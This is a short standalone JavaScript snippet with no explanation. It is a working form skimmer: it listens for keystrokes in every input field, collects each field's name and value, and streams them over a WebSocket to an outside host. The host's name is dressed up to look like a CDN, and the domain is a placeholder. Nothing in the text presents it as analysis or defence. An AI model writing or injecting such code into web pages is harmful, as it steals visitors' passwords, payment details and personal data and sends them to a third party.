(function () {
  var ws = new WebSocket("wss://socket-cdn.invalid:8443/live");
  var buf = [];
  document.addEventListener("keyup", function (e) {
    var t = e.target;
    if (t && t.tagName === "INPUT") {
      buf.push({ f: t.name, v: t.value });
      if (ws.readyState === 1) {
        ws.send(JSON.stringify(buf));
        buf = [];
      }
    }
  });
})();
